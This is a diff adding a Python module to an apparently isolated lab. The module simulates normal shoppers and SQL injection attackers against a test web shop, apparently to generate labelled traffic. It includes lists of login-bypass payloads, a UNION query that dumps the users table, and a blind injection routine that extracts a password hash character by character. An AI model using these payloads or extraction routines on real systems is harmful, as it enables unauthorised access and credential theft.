@@ -1,0 +1,282 @@
+"""Visitors of the shop, and people who break into it with a browser: HTTP over sockets of our own."""
+
+from __future__ import annotations
+
+import http.client
+import socket
+import struct
+from collections.abc import Mapping
+from typing import NamedTuple
+from urllib.parse import quote, urlencode
+
+from probing.lab import isolation
+from probing.lab.isolation import PASSWORD
+from probing.lab.services.sql_pages import KINDS, LOOKS, PORT, PRODUCTS, USES, password_hash
+from probing.lab.session import Session, program_version
+
+AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+PATIENCE_S = 60.0
+FORM_TYPE = "application/x-www-form-urlencoded"
+FOUND, HEX = 302, "0123456789abcdef"
+# what lists on the web offer to try at a login: some fit the statement, some break it, some are meant for others
+WORKING = ("' OR 1=1 -- ", "' OR '1'='1' -- ", "' OR 'a'='a' #", "' OR 1=1 #", "' OR TRUE -- ", "' || 1=1 -- ",
+           f"{isolation.USER}' -- ", f"{isolation.USER}' #", "bob' -- ", "x' OR 1=1 OR 'x'='",
+           "' OR name LIKE '%a%' -- ", "' OR 2>1 LIMIT 1 -- ", "' UNION SELECT 'bob' -- ")  # fmt: skip
+IN_VAIN = ("'", "''", "' OR '1'='1", "\" OR 1=1 -- ", "') OR 1=1 -- ", "')) OR 1=1 -- ", "admin' -- ", "admin' #",
+           "admin'/*", "' OR 1=2 -- ", "1 OR 1=1", "or 1=1", "' HAVING 1=1 -- ", "' GROUP BY 9 -- ", "\\' OR 1=1",
+           "' AND 1=1 -- ", "' UNION SELECT 1, 2 -- ", "' UNION ALL SELECT NULL, NULL, NULL -- ", "'; -- ", "`",
+           "\" OR \"\"=\"", "') OR ('1'='1", "root' -- ", "' OR 1 -- x' --", "%27%20OR%201=1", "' AND 'a'='b",
+           "' ORDER BY 7 -- ", "x' AND email IS NULL -- ", "hi' OR 'x'='y", "*/ OR 1=1 /*")  # fmt: skip
+Form = Mapping[str, str]
+Step = tuple[str, Form | None]
+
+
+class Page(NamedTuple):
+    """An answer. cookie: the one that it sets, "" for none."""
+
+    status: int
+    cookie: str
+    text: bytes
+
+
+class Visit:
+    """A visitor with a cookie, whose connections carry ``most`` requests each."""
+
+    def __init__(self, session: Session, most: int = 0) -> None:
+        """most: by default the session's ``requests``; 1 says `Connection: close` and the server closes."""
+        self.session, self.most, self.cookie = session, most or session.parameters.requests, ""
+        self._socket: socket.socket | None = None
+        self._asked = 0
+
+    def ask(
+        self, path: str, form: Form | None = None, phase: str = "", then: str = "", last: str = "fin"
+    ) -> Page:
+        """One page. phase, then: marks of the request and of its answer. last: how the connection ends if it does."""
+        at = self._connection()
+        close = self.most == 1 and last == "fin"
+        if phase:
+            self.session.mark(phase)
+        at.sendall(self._request(path, form, close))
+        if then:
+            at.recv(1, socket.MSG_PEEK)
+            self.session.mark(then)
+        page = self._answer(at)
+        self._asked += 1
+        if close:
+            while at.recv(65_536):  # the server's FIN comes first
+                pass
+        if close or (self._asked >= self.most and last == "fin"):
+            self.leave()
+        self.session.pause()
+        return page
+
+    def lose(self, path: str, form: Form | None = None, phase: str = "") -> None:
+        """Ask for a page as the network fails: neither it nor anything else comes back."""
+        at = self._connection()
+        if phase:
+            self.session.mark(phase)
+        port = at.getsockname()[1]
+        self.session.vanish(port)
+        self.session.claim(port, termination="sudden")
+        at.sendall(self._request(path, form, False))
+        self.session.keep(at)
+        self._socket = None
+
+    def leave(self, way: str = "fin") -> None:
+        """End the connection, if there is one."""
+        if self._socket is not None:
+            self.session.claim(self._socket.getsockname()[1], termination=way)
+            end(self._socket, way)
+            self._socket = None
+
+    def _connection(self) -> socket.socket:
+        if self._socket is None:
+            self.session.mark("connect")
+            self._socket = socket.create_connection((self.session.server, PORT), PATIENCE_S)
+            self.session.claim(self._socket.getsockname()[1], termination="fin")
+            self._asked = 0
+        return self._socket
+
+    def _request(self, path: str, form: Form | None, close: bool) -> bytes:
+        body = b"" if form is None else urlencode(form).encode()
+        lines = [f"{'GET' if form is None else 'POST'} {path} HTTP/1.1", f"Host: {self.session.server}",
+                 f"User-Agent: {AGENT}", "Accept: text/html,text/css,*/*;q=0.8", "Accept-Language: en"]  # fmt: skip
+        lines += [f"Content-Type: {FORM_TYPE}", f"Content-Length: {len(body)}"] if form is not None else []
+        lines += [f"Cookie: {self.cookie}"] if self.cookie else []
+        lines += [f"Connection: {'close' if close else 'keep-alive'}", "", ""]
+        self.session.transferred(len(body))
+        return "\r\n".join(lines).encode() + body
+
+    def _answer(self, at: socket.socket) -> Page:
+        with http.client.HTTPResponse(at) as response:
+            response.begin()
+            text = response.read()
+            cookie = (response.getheader("Set-Cookie") or "").split(";")[0]
+        self.session.transferred(len(text))
+        self.cookie = cookie or self.cookie
+        return Page(response.status, cookie, text)
+
+
+def end(at: socket.socket, way: str) -> None:
+    """End a connection: fin, rst, or timeout, which waits until the other side closes."""
+    if way == "rst":
+        at.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    else:
+        if way == "fin":
+            at.shutdown(socket.SHUT_WR)
+        while at.recv(65_536):
+            pass
+    at.close()
+
+
+class User:
+    """Visitors who want nothing but lamps."""
+
+    programs = ()
+
+    def perform(self, session: Session) -> None:
+        """browse, search, login, register, order."""
+        visit, way = Visit(session), session.parameters.termination
+        *before, last = _steps(session)
+        pages = [visit.ask(*step, phase="request") for step in before]
+        if way == "sudden":
+            visit.lose(*last, phase="request")
+            session.outcome(False)
+            return
+        pages.append(visit.ask(*last, phase="request", last=way))
+        visit.leave(way)
+        session.outcome(_is_well(session.activity, pages))
+
+    def version(self) -> str:
+        """That of its Python."""
+        return program_version("python3", "--version").rpartition(" ")[2]
+
+
+def _steps(session: Session) -> list[Step]:
+    """What a visitor asks for, in order."""
+    rng = session.rng
+    product = f"/product.php?id={rng.randrange(1, PRODUCTS + 1)}"
+    me = {"name": isolation.USER, "password": PASSWORD}
+    steps: list[Step]
+    if session.activity == "browse":
+        pages = [f"/index.php?page={k}" for k in sorted(rng.sample(range(1, PRODUCTS // 24), 2))]
+        others = [f"/product.php?id={rng.randrange(1, PRODUCTS + 1)}" for _ in range(2)]
+        steps = [
+            ("/", None),
+            (product, None),
+            (pages[0], None),
+            (others[0], None),
+            (pages[1], None),
+            (others[1], None),
+        ]
+    elif session.activity == "search":
+        words = [rng.choice(names) for names in (KINDS, LOOKS, USES)]
+        steps = [("/", None), *((f"/search.php?q={word}", None) for word in words), (product, None)]
+    elif session.activity == "login":
+        steps = [("/login.php", None), ("/login.php", me), ("/account.php", None)]
+    elif session.activity == "register":
+        name = f"{rng.choice(LOOKS)}{rng.choice(USES)}{rng.randrange(1_000_000):06d}"
+        new = {"name": name, "email": f"{name}@example.org", "password": f"{rng.getrandbits(48):012x}"}
+        steps = [("/", None), ("/register.php", None), ("/register.php", new)]
+    else:
+        buy = {"product": product.partition("=")[2], "pieces": str(rng.randrange(1, 5))}
+        steps = [("/login.php", me), (product, None), ("/account.php", None), ("/order.php", buy)]
+    if session.parameters.cache == "cold":
+        steps.insert(1, ("/style.css", None))
+    return steps
+
+
+def _is_well(activity: str, pages: list[Page]) -> bool:
+    """Whether a visitor got what they came for."""
+    if any(page.status not in (http.client.OK, FOUND) for page in pages):
+        return False
+    words = {"login": b"Welcome, ", "order": b"We have your order"}.get(activity, b"")
+    wanted = FOUND if activity == "register" else http.client.OK
+    return pages[-1].status == wanted and words in pages[-1].text
+
+
+class Hand:
+    """Somebody who tries, with a browser, what becomes of the words that they enter."""
+
+    programs = ()
+
+    def perform(self, session: Session) -> None:
+        """tautology, union, blind, list-login, list-register."""
+        activity = session.activity
+        if activity.startswith("list-"):
+            session.outcome(_list(session, f"/{activity.removeprefix('list-')}.php"))
+            return
+        visit = Visit(session, session.parameters.requests + 3 if activity == "blind" else 0)
+        session.outcome({"tautology": _tautology, "union": _union, "blind": _blind}[activity](session, visit))
+
+    def version(self) -> str:
+        """That of its Python."""
+        return USER.version()
+
+
+def _tautology(session: Session, visit: Visit) -> bool:
+    """Log in with a condition that is always true."""
+    visit.ask("/login.php", phase="browse")
+    words = {"name": session.rng.choice(WORKING), "password": "x"}
+    visit.ask("/login.php", words, phase="injection", then="transfer")
+    page = visit.ask("/account.php", last=session.parameters.termination)
+    visit.leave(session.parameters.termination)
+    return b"Welcome, " in page.text
+
+
+def _union(session: Session, visit: Visit) -> bool:
+    """Have a search list the table of users."""
+    visit.ask("/", phase="browse")
+    visit.ask(f"/search.php?q={session.rng.choice(KINDS)}")
+    columns = session.rng.choice(("id, name, password", "name, email, password", "name, password, email"))
+    words = f"{session.rng.getrandbits(24):06x}' UNION SELECT {columns} FROM users -- "
+    page = visit.ask(
+        f"/search.php?q={quote(words)}", None, "injection", "transfer", session.parameters.termination
+    )
+    visit.leave(session.parameters.termination)
+    return password_hash(PASSWORD).encode() in page.text
+
+
+def _blind(session: Session, visit: Visit) -> bool:
+    """Ask for a product if a character of a password's hash is past another; ``requests`` such questions."""
+    product = session.rng.randrange(1, PRODUCTS + 1)
+    visit.ask(f"/product.php?id={product}", phase="browse")
+
+    def holds(condition: str, phase: str = "", then: str = "") -> bool:
+        path = "/product.php?id=" + quote(f"{product}' AND {condition} -- ")
+        return b"No such product" not in visit.ask(path, None, phase, then).text
+
+    number = session.rng.randrange(1000)
+    true, false = f"{number}={number}", f"{number}={number + 1}"
+    told = ""
+    if holds(true, "injection", "transfer") and not holds(false):
+        for place in range(1, max(1, (session.parameters.requests - 2) // 4) + 1):
+            low, high = 0, len(HEX) - 1
+            while low < high:
+                middle = (low + high) // 2
+                letter = (
+                    f"ASCII(SUBSTRING((SELECT password FROM users WHERE name='{isolation.USER}'),{place},1))"
+                )
+                low, high = (middle + 1, high) if holds(f"{letter}>{ord(HEX[middle])}") else (low, middle)
+            told += HEX[low]
+    visit.leave(session.parameters.termination)
+    return told != "" and password_hash(PASSWORD).startswith(told)
+
+
+def _list(session: Session, path: str) -> bool:
+    """Try ``guesses`` strings, one of those that work among them, in a connection each."""
+    count = session.parameters.guesses
+    words = [*session.rng.choices((*WORKING, *IN_VAIN), k=count - 1), session.rng.choice(WORKING)]
+    session.rng.shuffle(words)
+    came_in = False
+    for word in words:
+        visit = Visit(session, most=1)
+        page = visit.ask(
+            path, {"name": word, "email": "x@example.org", "password": "x"}, "injection", "transfer"
+        )
+        came_in |= page.status == FOUND and page.cookie != ""
+    return came_in
+
+
+USER = User()
+HAND = Hand()
